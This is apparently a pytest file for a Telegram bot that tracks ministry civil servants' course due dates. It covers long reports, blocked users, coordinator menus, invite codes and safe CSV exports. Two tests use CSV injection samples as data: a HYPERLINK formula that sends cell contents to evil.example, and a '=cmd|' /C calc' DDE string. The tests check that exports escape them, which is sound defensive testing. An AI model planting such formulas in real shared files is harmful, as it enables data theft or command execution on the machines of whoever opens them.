"""Oversight a ministry can trust: long lists reach the coordinator within the Bot API's limits,
nobody drops out by blocking the bot, bad settings do not stop the bot, files are safe to open,
and coordinators' commands stay in private chats."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import re
import struct
import tempfile
import types
from datetime import date, timedelta

import pytest
from telegram.constants import FileSizeLimit, MessageLimit

from bot import telegram_app
from bot.config import ConfigError, load_settings
from bot.conversation import Conversation
from bot.coordinators import COMMAND_TABLE, COORDINATOR_COMMANDS, coordinator_command
from bot.cycle import CyclePolicy, ReminderPolicy, add_years
from bot.locales import LANGUAGES, strings, t
from bot.quiz import Plan
from bot.reminders import Reminders
from bot.replies import split_text, utf16_length
from bot.report import CHART_BARS, OVERDUE_COLUMNS, REPORT_COLUMNS, chart_title, completion_chart
from bot.store.migrations import v4_reachability_invites_scope
from bot.store.schema import create_views
from bot.store import Employee, Store
from bot.store.records import DepartmentReport
from bot.telegram_app import TelegramSender, sending_bot, sync_coordinator_menus
from tests.bot_api_stub import BotApiStub
from tests.conftest import NOW, TOKEN, TelegramUser, running_bot, sent_messages, start_bot, stop_bot
from tests.test_coordinators import _cli

TODAY = date(2026, 11, 23)  # NOW in Almaty, a Monday
COORDINATOR = 900
SURNAMES = [
    "Нұрсұлтанқызы-Бекмұхамбетова",
    "Константинопольская-Ибрагимова",
    "Сәрсенбайұлы-Жақсылықов",
    "Александровский-Тұрсынбеков",
    "Мұхамеджанова-Шайхысламова",
    "Преображенский-Қуанышбаев",
    "Әбдірахманова-Төлеутайқызы",
    "Красносельская-Есенжолова",
    "Қожахметов-Ержанұлы",
    "Воскресенская-Байтұрсынова",
    "Жұмабаев-Серікбайұлы",
    "Рождественский-Оразалиев",
]
GIVEN = [
    "Әйгерім Бауыржанқызы",
    "Александр Владимирович",
    "Гүлнәр Серікқызы",
    "Екатерина Сергеевна",
    "Нұрлан Қайратұлы",
    "Дмитрий Константинович",
    "Ақбота Ерланқызы",
    "Татьяна Олеговна",
    "Дәурен Мұратұлы",
    "Владислав Игоревич",
]


def _department(n: int) -> str:
    kind = (
        "Қарағанды облысы әкімдігінің мемлекеттік қызметтер және цифрландыру басқармасы"
        if n % 2
        else "Департамент государственных услуг и цифровизации акимата Туркестанской области"
    )
    return f"{kind} №{n}"


def _ministry(store: Store, departments: int, overdue: int, soon: int) -> list[Employee]:
    """Roster employees across `departments`: `overdue` past their due date, `soon` due within the
    window, spread evenly; none has pressed Start."""
    employees = []
    for n in range(overdue + soon):
        due = TODAY - timedelta(days=1 + n % 200) if n < overdue else TODAY + timedelta(days=1 + n % 80)
        employees.append(
            Employee(
                f"E{n:04d}",
                f"{SURNAMES[n % 12]} {GIVEN[n // 12 % 10]}",
                _department(n % departments),
                "бас маман",
                None,
                add_years(due, -3).isoformat(),
            )
        )
    store.upsert_employees(employees, NOW)
    return employees


def _texts(calls) -> list[str]:
    return [c.params["text"] for c in sent_messages(calls)]


# one way out for every text ------------------------------------------------------------------


@pytest.mark.parametrize("limit", [10, 50, MessageLimit.MAX_TEXT_LENGTH])
def test_split_text_keeps_lines_whole_and_every_message_within_the_limit(limit):
    lines = [f"• {SURNAMES[n % 12]} {GIVEN[n % 10]} 🔕 {n}" for n in range(300)] + ["", "A " * 3000]
    text = "\n".join(lines)
    parts = split_text(text, limit)
    assert all(0 < utf16_length(part) <= limit for part in parts)
    if limit == MessageLimit.MAX_TEXT_LENGTH:  # every short line whole in one message
        assert all(any(line in part.split("\n") for part in parts) for line in lines[:-2])
    assert "".join(parts).replace("\n", "").replace(" ", "") == text.replace("\n", "").replace(" ", "")


def test_split_text_never_cuts_an_html_entity():
    parts = split_text("x" * 8 + "&amp;" + "y" * 8, 11)
    assert all(part.count("&") == part.count(";") for part in parts) and "".join(parts) == "x" * 8 + "&amp;" + "y" * 8


async def test_long_overdue_report_and_digest_all_reach_the_coordinator(bank, tmp_path, clock):
    async for harness in running_bot(bank, tmp_path, clock, None, coordinator_ids=frozenset({COORDINATOR})):
        employees = _ministry(harness.store, departments=30, overdue=60, soon=60)
        coordinator = harness.user(COORDINATOR, "ru")
        overdue_calls = await coordinator.send("/overdue")
        overdue = "\n".join(_texts(overdue_calls))
        assert len(_texts(overdue_calls)) >= 2 and not [c for c in overdue_calls if c.method == "sendDocument"]
        assert all(e.full_name in overdue and f"({e.employee_id})" in overdue for e in employees[:60])
        assert t("ru", "overdue_title", count=60) in overdue

        report_calls = await coordinator.send("/report")
        (document,) = [c for c in report_calls if c.method == "sendDocument"]  # 30 departments: over 3 messages
        assert _texts(report_calls) == [] and document.params["caption"].startswith("📎")
        rows = list(csv.DictReader(io.StringIO(document.files["document"].decode("utf-8-sig"))))
        assert {(r["department"], r["servants"], r["overdue"], r["due_soon"]) for r in rows} == {
            (_department(n), "4", "2", "2") for n in range(30)
        }
        (photo,) = [c for c in report_calls if c.method == "sendPhoto"]
        assert sum(_png_size(photo.files["photo"])) <= 10_000

        async with sending_bot(TOKEN, harness.api.base_url, concurrency=5) as bot:
            reminders = Reminders(
                bank,
                harness.store,
                ReminderPolicy(),
                CyclePolicy(),
                harness.application.bot_data["conversation"].coordination,
                "ru",
            )
            before = len(harness.api.calls)
            sweep = await reminders.sweep(TelegramSender(bot), NOW)
        (digest,) = _texts(harness.api.calls[before:])
        assert sweep.sent == 1 and harness.store.db["users"].get(COORDINATOR)["unreachable_since"] is None
        listed = [e for e in employees if e.full_name in digest]
        more = re.fullmatch(r"\+ещё (\d+): /overdue", digest.rsplit("\n", 1)[1])
        assert more and len(listed) + int(more[1]) == 120 and len(listed) > 20
        for calls in (overdue_calls, report_calls, harness.api.calls[before:]):
            assert all(len(text) <= MessageLimit.MAX_TEXT_LENGTH for text in _texts(calls))
            assert all(c.status == 200 for c in calls)


def _png_size(data: bytes) -> tuple[int, int]:
    return struct.unpack(">II", data[16:24])


async def test_a_report_of_500_departments_comes_as_a_csv_and_a_readable_chart(bank, tmp_path, clock):
    async for harness in running_bot(bank, tmp_path, clock, None, coordinator_ids=frozenset({COORDINATOR})):
        _ministry(harness.store, departments=500, overdue=500, soon=500)
        calls = await harness.user(COORDINATOR, "en").send("/report")
        assert _texts(calls) == []
        (document,) = [c for c in calls if c.method == "sendDocument"]
        rows = list(csv.reader(io.StringIO(document.files["document"].decode("utf-8-sig"))))
        assert rows[0] == list(REPORT_COLUMNS) and len({r[0] for r in rows[1:]}) == 500
        assert document.params["caption"] == t("en", "list_as_file", rows=500 * len(bank.modules))
        (photo,) = [c for c in calls if c.method == "sendPhoto"]
        width, height = _png_size(photo.files["photo"])
        assert width + height <= 10_000 and max(width, height) <= 20 * min(width, height)
        assert t("en", "chart_lowest", shown=CHART_BARS, total=500) in photo.params["caption"]

        overdue = await harness.user(COORDINATOR, "en").send("/overdue")
        (document,) = [c for c in overdue if c.method == "sendDocument"]
        rows = list(csv.reader(io.StringIO(document.files["document"].decode("utf-8-sig"))))
        assert rows[0] == list(OVERDUE_COLUMNS) and len(rows) == 501


def test_the_stand_in_refuses_what_telegram_refuses(tmp_path):
    async def scenario() -> list[str]:
        api = BotApiStub().start()
        api.know(1)
        errors = []
        try:
            async with sending_bot(TOKEN, api.base_url, concurrency=1) as bot:
                for call in (
                    lambda: bot.send_message(1, "x" * (MessageLimit.MAX_TEXT_LENGTH + 1)),
                    lambda: bot.send_message(2, "hello"),
                    lambda: bot.send_document(2, b"a,b\n", filename="x.csv"),
                    lambda: bot.set_my_commands([("start", "menu")], scope={"type": "chat", "chat_id": 2}),
                ):
                    try:
                        await call()
                    except Exception as error:  # noqa: BLE001 (collecting what the Bot API answered)
                        errors.append(str(error))
                await bot.send_message(1, "x" * MessageLimit.MAX_TEXT_LENGTH)
        finally:
            api.stop()
        return errors

    assert asyncio.run(scenario()) == ["Message is too long", "Chat not found", "Chat not found", "Chat not found"]


# nobody drops out ------------------------------------------------------------------------------


async def test_a_servant_who_blocked_the_bot_stays_in_overdue_marked_until_they_write_again(bank, tmp_path, clock):
    async for harness in running_bot(bank, tmp_path, clock, None, coordinator_ids=frozenset({COORDINATOR})):
        employees = _ministry(harness.store, departments=3, overdue=6, soon=0)
        conversation = harness.application.bot_data["conversation"]
        servant = harness.user(801, "kk")
        code = harness.store.invite(employees[0].employee_id, NOW, 30).code
        await servant.send(f"/start {code}")
        coordinator = harness.user(COORDINATOR, "en")
        await coordinator.send("/start")
        harness.api.block(801)
        async with sending_bot(TOKEN, harness.api.base_url, concurrency=5) as bot:
            reminders = Reminders(bank, harness.store, ReminderPolicy(), CyclePolicy(), conversation.coordination, "ru")
            report = await reminders.sweep(TelegramSender(bot), NOW)
        assert report.blocked == 1 and report.sent == 1  # the servant's reminder; the coordinator's digest
        overdue = _texts(await coordinator.send("/overdue"))[0]
        name = employees[0].full_name
        mark = t("en", "mark_unreachable", since="23 November 2026")
        assert f"• {name} ({employees[0].employee_id}): 22 November 2026 {mark}" in overdue
        assert t("en", "overdue_department", department=_department(0), count=2, unreachable=1) in overdue
        assert t("en", "unreachable_count", count=1, departments=f"{_department(0)} 1") in overdue
        report_text = _texts(await coordinator.send("/report"))[0]
        assert t("en", "report_reach", unreachable=1, self_registered=0) in report_text

        harness.api.unblock(801)
        await servant.send("/progress")
        overdue = _texts(await coordinator.send("/overdue"))[0]
        assert name in overdue and mark not in overdue and "🔕" not in overdue


async def test_coordinators_are_not_servants_and_self_registered_users_are_marked(bank, tmp_path, clock):
    async for harness in running_bot(bank, tmp_path, clock, None, coordinator_ids=frozenset({COORDINATOR})):
        harness.store.add_coordinator(950, ["Akimat"], NOW)
        for telegram_id in (COORDINATOR, 950, 802):
            await harness.user(telegram_id, "en", first_name=f"User {telegram_id}").send("/start")
        for telegram_id in (COORDINATOR, 950, 802):  # all three due: only the servant is listed
            harness.store.set_hire_date(telegram_id, TODAY - timedelta(days=3 * 366))
            harness.application.bot_data["conversation"].refresh_cycle(telegram_id)
        overdue = _texts(await harness.user(COORDINATOR, "en").send("/overdue"))[0]
        assert "User 802: " in overdue and t("en", "mark_self_registered") in overdue
        assert "User 900" not in overdue and "User 950" not in overdue
        report = _texts(await harness.user(COORDINATOR, "en").send("/report"))[0]
        assert t("en", "report_department", department="—", enrolled="1 civil servant", overdue=1, soon=0) in report
        assert t("en", "report_reach", unreachable=0, self_registered=1) in report


# a bad setting does not stop the bot ---------------------------------------------------------


async def test_an_unknown_coordinator_id_neither_stops_the_start_nor_the_other_menus(bank, tmp_path, clock, caplog):
    api = BotApiStub().start()
    api.know(COORDINATOR, 952)
    store = Store(tmp_path / "bot.db")
    store.add_coordinator(951, ["Akimat"], NOW)  # a typo: never wrote to the bot
    store.add_coordinator(952, [], NOW, all_departments=True)
    application = await start_bot(api, Conversation(bank, store, "ru", clock, coordinator_ids=frozenset({COORDINATOR})))
    try:
        scoped = {
            c.params["scope"]["chat_id"] for c in api.calls if c.method == "setMyCommands" and c.params.get("scope")
        }
        assert {COORDINATOR, 952} <= scoped  # 951 (sorted between them) did not stop 952
        assert "coordinator menu for 951 not changed" in caplog.text
        assert _texts(await TelegramUser(api, 803, "en", application=application).send("/start"))  # the bot serves
        api.know(951)  # they press Start: the next sync gives them the menu
        before = len(api.calls)
        application.job_queue.run_once(sync_coordinator_menus, 0)
        calls = (
            await asyncio.to_thread(
                api.wait_for,
                lambda calls: sum(c.method == "setMyCommands" for c in calls[before:]) == len(LANGUAGES) + 1,
            )
        )[before:]
        assert {c.params["scope"]["chat_id"] for c in calls} == {951}
    finally:
        await stop_bot(application)
        store.close()
        api.stop()


# files that are safe to open -------------------------------------------------------------------


async def test_a_formula_name_is_plain_text_in_the_csv_and_raw_in_json(bank, tmp_path, clock):
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    async for harness in running_bot(bank, tmp_path, clock, None, coordinator_ids=frozenset({COORDINATOR})):
        harness.store.upsert_employees([Employee("@E1", "-Ерлан", "+Akimat", "x", None, None)], NOW)
        linked = harness.user(804, "en", first_name="Asel")
        await linked.send(f"/start {harness.store.invite('@E1', NOW, 30).code}")
        for telegram_id, first_name in ((804, "Asel"), (805, formula)):
            harness.store.touch_user(telegram_id, first_name, NOW)
            module = bank.modules["onboarding"]
            session = harness.store.start_session(telegram_id, module.id, module.track, Plan.draw(module, 1), NOW)
            harness.store.complete(session.id, 10, len(module.questions), True, NOW)
        calls = await harness.user(COORDINATOR, "en").send("/export")
        (document,) = [c for c in calls if c.method == "sendDocument"]
        assert document.params["caption"] == t("en", "export_done", rows="2 rows")
        rows = list(csv.DictReader(io.StringIO(document.files["document"].decode("utf-8-sig"))))
        assert [(r["employee_id"], r["full_name"], r["department"], r["telegram_first_name"]) for r in rows] == [
            ("'@E1", "'-Ерлан", "'+Akimat", "Asel"),
            ("", "", "", "'" + formula),
        ]
        assert list(rows[0])[-1] == "telegram_first_name"
    lines = _cli("export", "--format", "jsonl", db=tmp_path / "bot.db").stdout.splitlines()
    assert [json.loads(line)["telegram_first_name"] for line in lines] == ["Asel", formula]
    assert json.loads(lines[0])["full_name"] == "-Ерлан"


def test_output_files_are_private_atomic_and_never_overwritten_by_accident(tmp_path):
    db = tmp_path / "bot.db"
    assert _cli("coordinator", "list", db=db).returncode == 0
    assert db.stat().st_mode & 0o777 == 0o600
    out = tmp_path / "log.csv"
    assert _cli("export", "--output", str(out), db=db).returncode == 0
    assert out.stat().st_mode & 0o777 == 0o600
    out.write_text("keep me")
    refused = _cli("export", "--output", str(out), db=db)
    assert refused.returncode == 2 and refused.stderr == f"error: {out} already exists; add --force to overwrite it\n"
    assert out.read_text() == "keep me"
    assert _cli("export", "--output", str(out), "--force", db=db).returncode == 0 and out.read_text() != "keep me"
    for target in (db, tmp_path / "bot.db-wal"):
        refused = _cli("export", "--output", str(target), "--force", db=db)
        assert refused.returncode == 2 and "is the bot's database" in refused.stderr
    chart = tmp_path / "chart.png"
    assert _cli("report", "--chart", str(chart), db=db).returncode == 0 and chart.stat().st_mode & 0o777 == 0o600
    assert _cli("report", "--chart", str(chart), db=db).returncode == 2
    assert sorted(p.name for p in tmp_path.iterdir() if not p.name.startswith("bot.db")) == ["chart.png", "log.csv"]


async def test_an_export_too_big_for_telegram_points_to_the_command_line(bank, tmp_path, clock, monkeypatch):
    monkeypatch.setattr(
        telegram_app,
        "FileSizeLimit",
        types.SimpleNamespace(FILESIZE_UPLOAD=10, PHOTOSIZE_UPLOAD=FileSizeLimit.PHOTOSIZE_UPLOAD),
    )  # a log past the limit
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    async for harness in running_bot(bank, tmp_path, clock, None, coordinator_ids=frozenset({COORDINATOR})):
        calls = await harness.user(COORDINATOR, "en").send("/export 2026-01-01")
        assert [c.method for c in calls] == ["sendMessage"]
        assert calls[0].params["text"] == t(
            "en",
            "export_too_big",
            command="python -m bot export --since 2026-01-01 --output completions_2026-01-01.csv",
        )
    assert not list(tmp_path.glob("completions-*"))


# private chats only, and scoped ------------------------------------------------------------------


async def test_coordinator_commands_in_a_group_get_one_line_and_no_records(bank, tmp_path, clock):
    async for harness in running_bot(bank, tmp_path, clock, None, coordinator_ids=frozenset({COORDINATOR})):
        _ministry(harness.store, departments=2, overdue=4, soon=0)
        in_group = harness.user(COORDINATOR, "en", group=-100123)
        for command in ("/overdue", "/export", "/report", "/start", "/overdue@ethics_test_bot"):
            calls = await in_group.send(command)
            assert [(c.method, c.params["chat_id"], c.params["text"]) for c in calls] == [
                ("sendMessage", -100123, t("en", "private_only"))
            ]
        assert await in_group.send("/overdue@other_bot") == []
        assert await in_group.send("hello everyone") == []
        pressed = await in_group.press("prog")
        assert [(c.method, c.params.get("text")) for c in pressed] == [("answerCallbackQuery", t("en", "private_only"))]
        assert await harness.user(COORDINATOR, "en").send("/report@other_bot") == []
        assert harness.store.db["users"].count == 0


def test_every_coordinator_command_has_a_handler_and_help_in_every_language():
    assert COORDINATOR_COMMANDS == tuple(command.name for command in COMMAND_TABLE)
    for command in COMMAND_TABLE:
        assert asyncio.iscoroutinefunction(command.handler) and command.help_key == f"cmd_{command.name}"
        assert all(strings(lang)[command.help_key] for lang in LANGUAGES)
        assert coordinator_command(command.name) is command
    with pytest.raises(KeyError):
        coordinator_command("audit")  # a name outside the table runs nothing, least of all /export


def test_coordinator_departments_are_named_or_explicitly_all(tmp_path):
    db = tmp_path / "bot.db"
    for args in (["--department", ""], ["--department", "  "], [], ["--department", "Akimat", "--all-departments"]):
        result = _cli("coordinator", "add", "--telegram-id", "5", *args, db=db)
        assert result.returncode == 2 and result.stderr.startswith("error: ") and len(result.stderr.splitlines()) == 1
    assert _cli("coordinator", "add", "--telegram-id", "5", "--all-departments", db=db).stdout == "5\tall departments\n"
    assert (
        _cli("coordinator", "add", "--telegram-id", "6", "--department", "Akimat", db=db).stdout.splitlines()[1]
        == "6\tAkimat"
    )
    store = Store(db)
    assert store.coordinators() == {5: None, 6: ("Akimat",)}


def test_roster_invites_all_needs_reissue(tmp_path):
    result = _cli("roster", "invites", "--all", db=tmp_path / "bot.db")
    assert result.returncode == 2 and "--all needs --reissue" in result.stderr


async def test_expired_reused_and_second_invite_codes_in_telegram(bank, tmp_path, clock):
    async for harness in running_bot(bank, tmp_path, clock, None):
        harness.store.upsert_employees(
            [Employee(f"E{n}", f"Сотрудник {n}", "Akimat", "x", None, None) for n in (1, 2, 3)], NOW
        )
        expired = harness.store.invite("E1", NOW - timedelta(days=31), 30).code
        used, second = harness.store.invite("E2", NOW, 30).code, harness.store.invite("E3", NOW, 30).code
        first_text = lambda calls: _texts(calls)[0]  # noqa: E731
        assert first_text(await harness.user(806, "ru").send(f"/start {expired}")) == t("ru", "invite_expired")
        assert first_text(await harness.user(807, "ru").send(f"/start {used}")).startswith("Привязано")
        assert first_text(await harness.user(808, "ru").send(f"/start {used}")) == t("ru", "invite_invalid")
        assert first_text(await harness.user(807, "ru").send(f"/start {second}")) == t(
            "ru", "invite_account_linked", name="Сотрудник 2", department="Akimat"
        )
        assert harness.store.employee_of(807).employee_id == "E2" and harness.store.employee_of(806) is None


# older databases ------------------------------------------------------------------------------


def test_older_databases_are_carried_over(tmp_path):
    store = Store(tmp_path / "old.db")
    db = store.db
    store.touch_user(1, "Blocked", NOW)
    store.touch_user(2, "Left", NOW)
    db.execute("UPDATE users SET active = 0, blocked_at = ? WHERE telegram_id IN (1, 2)", [NOW.isoformat()])
    db.execute(
        "INSERT INTO reminders (telegram_id, kind, due_on, stage, status, sent_at) "
        "VALUES (1, 'cycle', '2026-12-01', 'd7', 'blocked', ?)",
        [NOW.isoformat()],
    )
    db.execute("INSERT INTO coordinators (telegram_id, departments, added_at) VALUES (7, '', ?)", [NOW.isoformat()])
    store.upsert_employees([Employee("E1", "A", "Akimat", "x", None, None)], NOW)
    db.execute("INSERT INTO invites (code, employee_id, created_at) VALUES ('old', 'E1', ?)", [NOW.isoformat()])
    db.execute("DROP VIEW servant_status")
    db.execute("DROP VIEW completions_report")
    for table, column in (
        ("users", "unreachable_since"),
        ("invites", "expires_at"),
        ("coordinators", "all_departments"),
    ):
        db.execute(f"ALTER TABLE {table} DROP COLUMN {column}")  # as the schema before migration 4 had them
    with store.transaction():
        v4_reachability_invites_scope(db)
        create_views(db, 3)
    store.close()
    again = Store(tmp_path / "old.db")
    users = {row["telegram_id"]: row for row in again.db["users"].rows}
    assert (users[1]["active"], users[1]["unreachable_since"]) == (1, NOW.isoformat())  # the bot had deactivated them
    assert (users[2]["active"], users[2]["unreachable_since"]) == (0, None)  # a coordinator had
    assert again.coordinators() == {7: None}
    assert again.db["invites"].get("old")["expires_at"] == (NOW + timedelta(days=30)).isoformat()
    Store(tmp_path / "old.db").close()  # running it again changes nothing
    assert {row["telegram_id"]: row["active"] for row in Store(tmp_path / "old.db").db["users"].rows} == {1: 1, 2: 0}


def test_invite_lifetime_is_a_validated_setting(tmp_path):
    config = tmp_path / "config.yml"
    config.write_text("bot:\n  invite_valid_days: 14\n")
    assert load_settings({}, config).invite_days == 14
    config.write_text("bot:\n  invite_valid_days: 0\n")
    with pytest.raises(ConfigError, match="invite_valid_days"):
        load_settings({}, config)


@pytest.mark.parametrize("departments", [1, CHART_BARS, CHART_BARS + 1, 500])
def test_the_chart_stays_readable_and_within_the_photo_limits(departments):
    reports = [DepartmentReport(_department(n), 10, n % 11, 10 - n % 11, 0) for n in range(departments)]
    data = completion_chart(reports, chart_title(reports, "kk"))
    width, height = _png_size(data)
    assert len(data) <= FileSizeLimit.PHOTOSIZE_UPLOAD
    assert width + height <= 10_000 and max(width, height) <= 20 * min(width, height)
    assert height <= 100 * (0.4 * min(departments, CHART_BARS) + 1.8) + 1  # one bar per department, at most 40


def test_report_csv_on_the_command_line_has_the_bots_columns_and_safe_cells(tmp_path):
    store = Store(tmp_path / "bot.db")
    store.upsert_employees([Employee("E1", "=cmd|' /C calc'!A0", "@Akimat", "x", None, "2020-01-01")], NOW)
    store.close()
    overdue = list(
        csv.reader(
            io.StringIO(_cli("report", "--format", "csv", "--overdue", db=tmp_path / "bot.db").stdout.lstrip("\ufeff"))
        )
    )
    assert overdue[0] == list(OVERDUE_COLUMNS)
    assert overdue[1][:3] == ["E1", "'=cmd|' /C calc'!A0", "'@Akimat"] and overdue[1][-1] == "1"
    report = list(
        csv.reader(io.StringIO(_cli("report", "--format", "csv", db=tmp_path / "bot.db").stdout.lstrip("\ufeff")))
    )
    assert report[0] == list(REPORT_COLUMNS) and {r[0] for r in report[1:]} == {"'@Akimat"}
